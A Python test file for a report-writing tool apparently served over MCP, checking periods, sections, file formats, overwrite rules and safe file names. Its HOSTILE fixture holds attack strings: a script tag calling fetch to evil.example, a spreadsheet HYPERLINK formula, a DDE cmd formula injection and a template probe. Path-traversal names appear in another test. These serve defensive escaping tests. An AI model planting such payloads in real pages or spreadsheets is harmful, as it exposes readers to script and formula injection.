"""The tool that writes quality reports: what it says, what it saves, and what it refuses."""

import csv
import io
import json
import os
import shutil
from html.parser import HTMLParser

import openpyxl
import pytest
import time_machine
from fastmcp.exceptions import ToolError
from tests.caches import SHOP, apart, copy_cache, fill
from tests.conftest import ANCHOR

from testio_mcp.sandbox import Sandbox, Scale
from testio_mcp.sandbox.plots import INJECTION

TOOL = "generate_quality_report"
HOSTILE = (
    "<script>fetch('http://evil.example')</script>",
    '=HYPERLINK("http://evil.example","x")',
    "-2+3+cmd|' /C calc'!A0",
    "{{ 7*7 }} | `x` [y](http://evil.example)",
    INJECTION,
)
SUFFIXES = {"markdown": "md", "json": "json", "html": "html", "xlsx": "xlsx", "csv": "csv"}


@pytest.fixture(autouse=True)
def _at_the_anchor():
    with time_machine.travel(ANCHOR, tick=True):
        yield


@pytest.fixture(scope="module")
def hostile_home(template, tmp_path_factory):
    """That of a cache of a world with hostile bugs."""
    home = tmp_path_factory.mktemp("hostile")
    shutil.copy(template, home / "cache.db")
    sandbox = Sandbox(Scale.SMALL, seed=1, anchor=ANCHOR)
    test_id = sandbox.world.add_test(SHOP, status="running", title=HOSTILE[0])
    for title in HOSTILE:
        sandbox.world.add_bug(test_id, severity="critical", title=title)
    with time_machine.travel(ANCHOR, tick=True):
        apart(fill(home, sandbox))
    return home


@pytest.fixture
def path(path, hostile_home):
    return copy_cache(hostile_home, path)


@pytest.fixture
async def call(client):
    """Data and text of a report over a world with hostile bugs."""

    async def call(**arguments):
        result = await client.call_tool(TOOL, {"product_ids": [SHOP], **arguments})
        (content,) = result.content
        return result.structured_content, content.text

    return call


@pytest.fixture
def folder(settings):
    return settings.home / "reports"


async def test_it_says_that_it_may_write_a_file(client):
    [tool] = [tool for tool in await client.list_tools() if tool.name == TOOL]
    hints = tool.annotations.model_dump(exclude_none=True, by_alias=True)
    assert hints == {
        "readOnlyHint": False,
        "destructiveHint": True,
        "idempotentHint": False,
        "openWorldHint": True,
    }


async def test_without_a_period_it_is_about_the_last_three_months(call, folder):
    answer, text = await call()
    report = answer["report"]
    assert (report["period"]["from"], report["period"]["to"]) == (
        *("2026-08-01T00:00:00Z", "2026-11-01T00:00:00Z"),
    )
    assert text.startswith("# Quality report: Nordwind Shop, last 3 months\n\n")
    assert not folder.exists()


async def test_named_tests_are_reported_on_whenever_they_ended(call):
    answer, _ = await call(test_ids=[100_000])
    assert answer["report"]["tests"]["total"] == 1
    assert answer["report"]["period"]["from"] is None


async def test_as_json_the_text_is_the_data(call):
    answer, text = await call(format="json")
    told = json.loads(text)
    for both in (answer, told):
        both["report"].pop("generated_at")
    assert told == answer


async def test_only_the_sections_that_are_named_are_told(call):
    answer, text = await call(sections=["Critical bugs", "trend"], period="this month")
    assert answer["report"].keys() & {"tests", "bugs", "rates", "comparison", "features"} == set()
    assert len(answer["report"]["critical_bugs"]["items"]) >= len(HOSTILE)
    assert "previous_period" not in answer["report"]
    assert "Compared with" not in text


async def test_without_comparison_there_is_none(call):
    answer, _ = await call(compare=False)
    assert "comparison" not in answer["report"]


@pytest.mark.parametrize("format", ["html", "xlsx", "csv"])
async def test_what_is_no_text_is_saved_under_a_chosen_name(call, folder, format):
    answer, text = await call(format=format, period="this month")
    name = f"quality-report-nordwind-shop-this-month.{format}"
    path = f"~/.testio-mcp/reports/{name}"
    size = (folder / name).stat().st_size
    assert answer["report"]["file"] == {"path": path, "format": format, "bytes": size}
    assert f"Saved as {path} ({format}, " in text
    again, _ = await call(format=format, period="this month")
    assert again["report"]["file"]["path"] == f"{path.removesuffix(f'.{format}')}-2.{format}"
    assert sorted(os.listdir(folder)) == sorted([name, name.replace(".", "-2.")])


@pytest.mark.parametrize("format", SUFFIXES)
async def test_a_named_file_is_saved_once(call, folder, format):
    answer, _ = await call(format=format, output_file="Q3 report")
    name = f"Q3 report.{SUFFIXES[format]}"
    assert answer["report"]["file"]["path"].endswith(f"/reports/{name}")
    before = (folder / name).read_bytes()
    with pytest.raises(ToolError, match=r"exists already\. .*set overwrite"):
        await call(format=format, output_file=name)
    assert (folder / name).read_bytes() == before
    await call(format=format, output_file=name, overwrite=True, period="all")
    assert (folder / name).read_bytes() != before


@pytest.mark.parametrize(
    "name", ["../out.html", "/tmp/out.html", "a/b", "..\\out", ".hidden", "nul", "out.exe/"]
)
async def test_no_path_leaves_the_folder(call, folder, name):
    with pytest.raises(ToolError, match=r"^output_file .* cannot be used: .* plain file name"):
        await call(format="html", output_file=name, overwrite=True)
    assert not folder.exists()


async def test_a_link_out_of_the_folder_is_refused(call, folder, tmp_path):
    folder.mkdir()
    precious = tmp_path / "precious"
    precious.write_text("precious")
    (folder / "out.html").symlink_to(precious)
    for overwrite in (True, False):
        with pytest.raises(ToolError):
            await call(format="html", output_file="out.html", overwrite=overwrite)
    assert precious.read_text() == "precious"


async def test_a_place_that_cannot_be_written_is_explained(call, folder):
    folder.write_text("in the way")
    with pytest.raises(ToolError, match=r"could not be saved in ~/\.testio-mcp/reports: "):
        await call(format="html")


class Elements(HTMLParser):
    def __init__(self, text):
        super().__init__()
        self.found, self.text = set(), ""
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.found.add(tag)

    def handle_data(self, text):
        self.text += text


async def test_what_testers_wrote_is_harmless_in_every_format(call, folder):
    for format in ("html", "xlsx", "csv"):
        await call(format=format, output_file="hostile", period="this month")
    page = Elements((folder / "hostile.html").read_text())
    assert not page.found & {"script", "img", "iframe"}
    assert all(title in page.text for title in HOSTILE)
    book = openpyxl.load_workbook(folder / "hostile.xlsx")
    cells = [cell for row in book["Critical open bugs"].iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    told = {str(cell.value) for cell in cells}
    assert {f"'{HOSTILE[1]}", f"'{HOSTILE[2]}", HOSTILE[0]} <= told
    links = {cell.hyperlink.target for cell in cells if cell.hyperlink}
    assert links
    assert all(link.startswith("https://app.test.io/bugs/") for link in links)
    content = (folder / "hostile.csv").read_text(encoding="utf-8-sig")
    told = {row["value"] for row in csv.DictReader(io.StringIO(content))}
    assert {f"'{HOSTILE[1]}", f"'{HOSTILE[2]}", HOSTILE[0]} <= told


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        ({"product_ids": [7]}, "Product 7 is not known"),
        ({"test_ids": [7]}, "Test 7 is not"),
        ({"exclude_test_ids": [7]}, "Test 7 is not"),
        ({"feature_ids": [7]}, "Feature 7 is not known"),
        ({"period": "some day"}, "The period 'some day' is not understood"),
        ({"format": "pdf"}, "format cannot be 'pdf'.*Allowed: markdown, json, html, xlsx, csv"),
        ({"sections": ["bug"]}, "sections cannot be 'bug'.*Did you mean 'bugs'"),
    ],
)
async def test_what_means_nothing_is_refused_with_what_is_allowed(call, arguments, words):
    with pytest.raises(ToolError, match=words):
        await call(**arguments)
